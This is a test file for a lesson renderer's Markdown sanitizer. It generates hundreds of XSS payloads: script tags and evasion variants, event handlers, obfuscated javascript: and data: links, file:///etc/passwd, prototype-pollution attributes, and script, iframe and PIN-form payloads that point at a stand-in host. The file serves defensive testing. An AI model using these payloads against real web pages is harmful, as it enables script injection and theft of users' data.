import { describe, expect, test } from 'vitest';
import { audiences } from '#lib/server/curriculum/audiences.ts';
import { checkLesson } from '#lib/server/curriculum/check.ts';
import { decoded, htmlFor, readable, tagsIn } from './shown.ts';

const allowedTags = new Set(
	'p h2 h3 h4 h5 h6 blockquote pre hr br div ul ol li dl dt dd table thead tbody tr th td a strong em del code'.split(
		' '
	)
);
const allowedClasses =
	/^(?:block(?:-label|-[a-z]+)?|sector-[a-z0-9-]+|listen|worksheet(?:-[a-z0-9-]+)?|field-[a-z0-9-]+|blank)$/;
const allowedValues: Record<string, RegExp> = {
	href: /^(?:https:\/\/[^/]|mailto:[^/]|tel:[^/]|#)/,
	rel: /^noopener noreferrer$/,
	start: /^\d+$/,
	align: /^(?:left|center|right)$/
};

/** Throws at the first thing in the HTML that we would never write. */
function expectHarmless(html: string) {
	for (const { name, attributes } of tagsIn(html)) {
		expect(allowedTags).toContain(name);
		for (const [attribute, value] of Object.entries(attributes)) {
			if (attribute === 'class') value.split(' ').forEach((word) => expect(word).toMatch(allowedClasses));
			else expect(value).toMatch(allowedValues[attribute] ?? /^(attribute that is not allowed)$/);
		}
	}
}

const cross = <A, B, C>(as: readonly A[], bs: readonly B[], join: (a: A, b: B) => C): C[] =>
	as.flatMap((a) => bs.map((b) => join(a, b)));

const script = 'alert(1)';
const scripts = [
	`<script>${script}</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>${script}</scr</script>ipt>`,
	`<script\n>${script}</script\n>`,
	`<script context="module">${script}</script>`,
	`<script module>${script}</script>`,
	`<svelte:head><script>${script}</script></svelte:head>`,
	`<svelte:window onload={() => ${script}} />`,
	`<svelte:element this="script">${script}</svelte:element>`,
	`<style>@import 'https://evil.example'</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href=https://evil.example>`,
	`<iframe src=https://evil.example></iframe>`,
	`<iframe srcdoc="<script>${script}</script>"></iframe>`,
	`<object data=https://evil.example></object>`,
	`<embed src=https://evil.example>`,
	`<form action=https://evil.example><input name=pin><button>Go</button></form>`,
	`<template><script>${script}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
	`<!--><script>${script}</script>-->`,
	`<![CDATA[<script>${script}</script>]]>`,
	`<?php echo 1 ?><script>${script}</script>`,
	`<textarea></textarea><script>${script}</script>`,
	`<title></title><script>${script}</script>`,
	`<math><mtext><script>${script}</script></mtext></math>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
	`<svg><script>${script}</script></svg>`,
	`<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
	`<svg><animate onbegin=${script} attributeName=x dur=1s>`,
	`<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"></svg>`
];
const elements = ['img', 'svg', 'body', 'div', 'a', 'video', 'details', 'input', 'marquee', 'p'];
const handlers = [
	'onclick',
	'onerror',
	'onload',
	'onmouseover',
	'ontoggle',
	'onfocus',
	'ONPOINTERENTER',
	'style'
];
const handled = cross(
	elements,
	handlers,
	(element, handler) => `<${element} src=x href=x ${handler}="${script}">x</${element}>`
);

const schemes = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	'java&#115;cript:alert(1)',
	'java&#x73;cript&colon;alert(1)',
	'&#106;avascript&#58;alert(1)',
	'java%73cript:alert(1)',
	'java\\script:alert(1)',
	'javascript&Tab;:alert(1)',
	'java&#9;script:alert(1)',
	'java&NewLine;script:alert(1)',
	'&#1;javascript:alert(1)',
	'vbscript:msgbox(1)',
	'data:text/html,<script>alert(1)</script>',
	'data:text/html;base64,PHNjcmlwdD4=',
	'DATA:image/svg+xml,x',
	'file:///etc/passwd',
	'blob:https://x/y',
	'http://evil.example',
	'//evil.example',
	'\\\\evil.example',
	'/\\evil.example',
	'ftp://evil.example',
	'https:javascript:alert(1)',
	'https:///evil.example',
	'./x',
	'?x',
	'view-source:javascript:1',
	'feed:javascript:alert(1)',
	'https:alert(1)'
];
const linkForms = [
	(url: string) => `[x](${url})`,
	(url: string) => `[x](<${url}>)`,
	(url: string) => `[x](${url} "title")`,
	(url: string) => `[x][y]\n\n[y]: ${url}`,
	(url: string) => `[y]\n\n[y]: <${url}> 'title'`,
	(url: string) => `<${url}>`,
	(url: string) => `See ${url} now.`,
	(url: string) => `[**x** \`y\`](${url})`,
	(url: string) => `| a |\n| - |\n| [x](${url}) |`,
	(url: string) => `- [ ] [x](${url})`
];
const links = cross(schemes, linkForms, (url, form) => form(url));

const pictures = [
	'https://evil.example/x.png',
	'//evil.example/x',
	'data:image/png;base64,AAAA',
	'/x.png',
	'javascript:alert(1)'
];
const pictureForms = [
	(url: string) => `![x](${url})`,
	(url: string) => `![x](<${url}> "t")`,
	(url: string) => `![x][y]\n\n[y]: ${url}`,
	(url: string) => `![y]\n\n[y]: ${url}`,
	(url: string) => `[![x](${url})](https://example.com)`,
	(url: string) => `<img src="${url}">`,
	(url: string) => `<picture><source srcset="${url}"></picture>`,
	(url: string) => `<video poster="${url}" src="${url}"></video>`,
	(url: string) => `# ![x](${url})`,
	(url: string) => `![" onerror="alert(1)](${url})`
];
const images = cross(pictures, pictureForms, (url, form) => form(url));

const attributes = [
	'onclick="alert(1)"',
	'onclick=alert(1)',
	'style="position:fixed"',
	'id="actor"',
	'#actor',
	'class="block-say"',
	'.block-label',
	'__proto__="x"',
	'constructor=x',
	'prototype.polluted=1',
	'href="javascript:alert(1)"',
	'src=https://evil.example',
	'srcdoc="<script>"',
	'data-x="1"',
	'hidden',
	'contenteditable',
	'sector="construction\\" onclick=\\"alert(1)"',
	'sector="x\'><script>"',
	'sector="__proto__"',
	'id="x\'><script>alert(1)</script>"'
];
const blocks = [
	'say',
	'ask',
	'do',
	'tip',
	'care',
	'show',
	'example',
	'worksheet',
	'script',
	'img',
	'constructor',
	'__proto__'
];
const directives = cross(blocks, attributes, (name, attribute) => `:::${name}{${attribute}}\n- a: b\n:::`);

const expressions = [
	...['{alert(1)}', '{@html x}', '{#if x}{/if}', '{#each a as b}', '{@const x = 1}', '{@render x()}'],
	...['${x}', '{{x}}', '{"\\u003c"}', '{', '}', '<%= x %']
];
const places = [
	(text: string) => text,
	(text: string) => `**${text}**`,
	(text: string) => `\`${text}\``,
	(text: string) => `:::show\n${text}\n:::`,
	(text: string) => `### ${text}`,
	(text: string) => `- ${text}`,
	(text: string) => `[${text}](https://example.com)`
];

const payloads = [...scripts, ...handled, ...links, ...images, ...directives];
const lessonWith = (text: string) =>
	`---\nid: a\n---\n${text}\n\n## Try (role-play, 10 min)\n\n${text}\n\n:::show\n${text}\n:::\n\n- ${text}\n`;

describe('hostile Markdown', () => {
	test('is tried in at least 300 forms, none twice', () => {
		expect(new Set(payloads).size).toBe(payloads.length);
		expect(payloads.length).toBeGreaterThanOrEqual(300);
	});

	test.each(audiences)('becomes harmless HTML for a %s', { timeout: 60_000 }, (audience) => {
		for (const payload of payloads) {
			const html = htmlFor(audience, lessonWith(payload));
			expect(html, payload).not.toBeNull();
			expectHarmless(html!);
		}
	});

	test.each([...scripts, ...handled, ...images])('is a fault, or only text: %s', (payload) => {
		const text = `---\n---\n${payload}`;
		const codes = checkLesson({ path: 'a.md', text }).faults.map(({ code }) => code);
		const isFault = codes.some((code) => ['html.raw', 'image.any', 'link.scheme'].includes(code));
		expect(isFault ? payload : readable(htmlFor('participant', text)!)).toBe(payload);
	});

	test.each(schemes)('is a fault as a link: %s', (url) => {
		const text = lessonWith(`[x](<${url.replaceAll('<', '%3C').replaceAll('>', '%3E')}>)`);
		const codes = checkLesson({ path: 'a.md', text }).faults.map(({ code }) => code);
		expect(codes).toContain('link.scheme');
	});

	test('pollutes no prototype', () => {
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
		expect(Object.keys(Object.prototype)).toEqual([]);
	});
});

describe('text that looks like code stays text', () => {
	const written = cross(expressions, places, (text, place) => [text, place(text)]);
	test.each(written)('%s in %s', (text, markdown) => {
		for (const audience of audiences) {
			const html = htmlFor(audience, `---\n---\n${markdown}`)!;
			expectHarmless(html);
			expect(readable(html)).toContain(text);
		}
	});

	const plain = [
		...['Meet at 9:30.', 'A 3:1 chance.', 'Note:this', ':smile:', 'a:b@c.d', 'x ::: here', 'x ::say y'],
		...['Ready:go{fast}', ':b[c]{d=e}', '::leaf[x]', '10:30-11:45', 'https:', '1 < 2 & 3 > 2', '&lt;b&gt;']
	];
	test.each(plain)('%s', (text) => {
		for (const audience of audiences) {
			expect(readable(htmlFor(audience, `---\n---\nSo: ${text}\n\n${text}`)!)).toContain(decoded(text));
		}
	});
});
